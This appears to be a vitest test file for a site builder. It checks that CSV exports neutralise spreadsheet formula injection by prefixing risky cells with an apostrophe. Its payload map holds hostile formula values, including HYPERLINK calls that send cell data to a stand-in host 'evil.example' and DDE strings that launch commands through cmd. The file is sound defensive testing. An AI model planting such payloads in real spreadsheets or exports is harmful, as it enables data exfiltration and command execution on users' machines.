import { cp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { parse as parseCsv } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildSite } from '../../site/build.ts';
import { fixtureDir, tempDir } from './helpers.ts';

/** Names any source user could type, in place of fixture names wherever the snapshot carries them. */
const payloads: Record<string, string> = {
  'Grace Hopper': '-2+HYPERLINK("https://evil.example/?"&B2,"Details")',
  'Engine rewrite': "-1+cmd|' /C calc'!A0",
  'Marie Curie': ' =HYPERLINK("https://evil.example")',
  'Payments v3': '\uff1d1+1',
  'Linus Pauling': '@SUM(1+1)*cmd|\' /C calc\'!A0',
};

/**
 * This test's own reading of the rule, written apart from site/src/lib/csv.ts: after spaces, a
 * formula starts with one of these; a plain number is the one exemption.
 */
const triggers = ['=', '+', '-', '@', '\t', '\r', '\n', '\uff1d', '\uff0b', '\uff0d', '\uff20'];
const startsFormula = (cell: string) => triggers.includes(cell.replace(/^[ \u00a0\u3000]+/, '').charAt(0));
const isPlainNumber = (cell: string) => /^ *-?[0-9]+(\.[0-9]+)?([eE][+-]?[0-9]+)?%? *$/.test(cell);

function swapNames(value: unknown): unknown {
  if (typeof value === 'string') return payloads[value] ?? value;
  if (Array.isArray(value)) return value.map(swapNames);
  if (value && typeof value === 'object') return Object.fromEntries(Object.entries(value).map(([key, item]) => [key, swapNames(item)]));
  return value;
}

describe('the built site\'s CSVs with formula payloads as project and person names', () => {
  let work: string;
  const cells: { file: string; cell: string }[] = [];

  beforeAll(async () => {
    work = await tempDir('csv-payloads');
    const snapshot = path.join(work, 'snapshot');
    await cp(fixtureDir, snapshot, { recursive: true });
    for (const name of await readdir(snapshot)) {
      const file = path.join(snapshot, name);
      await writeFile(file, JSON.stringify(swapNames(JSON.parse(await readFile(file, 'utf8')))));
    }
    const out = path.join(work, 'out');
    await buildSite({ snapshotDir: snapshot, outDir: out });
    const files = (await readdir(out, { recursive: true })).filter((file) => file.endsWith('.csv'));
    for (const file of files) {
      const rows = parseCsv(await readFile(path.join(out, file), 'utf8')) as string[][];
      for (const row of rows) for (const cell of row) cells.push({ file, cell });
    }
  });

  afterAll(() => rm(work, { recursive: true, force: true }));

  it('writes every payload, prefixed with an apostrophe, into some CSV', () => {
    for (const payload of Object.values(payloads)) {
      expect(cells.some(({ cell }) => cell === `'${payload}`), payload).toBe(true);
      expect(cells.some(({ cell }) => cell === payload), payload).toBe(false);
    }
  });

  it('leaves no cell that a spreadsheet would run as a formula', () => {
    const unsafe = cells.filter(({ cell }) => startsFormula(cell) && !isPlainNumber(cell));
    expect(unsafe).toEqual([]);
  });

  it('prefixes nothing but would-be formulas: numbers, negative ones too, stay as they are', () => {
    const prefixed = cells.filter(({ cell }) => cell.startsWith("'"));
    for (const { file, cell } of prefixed) expect(startsFormula(cell.slice(1)) && !isPlainNumber(cell.slice(1)), `${file}: ${cell}`).toBe(true);
    const numbers = cells.filter(({ cell }) => isPlainNumber(cell));
    expect(numbers.length).toBeGreaterThan(50);
    expect(numbers.some(({ cell }) => cell.trim().startsWith('-')), 'some negative number in the fixture CSVs').toBe(true);
  });
});
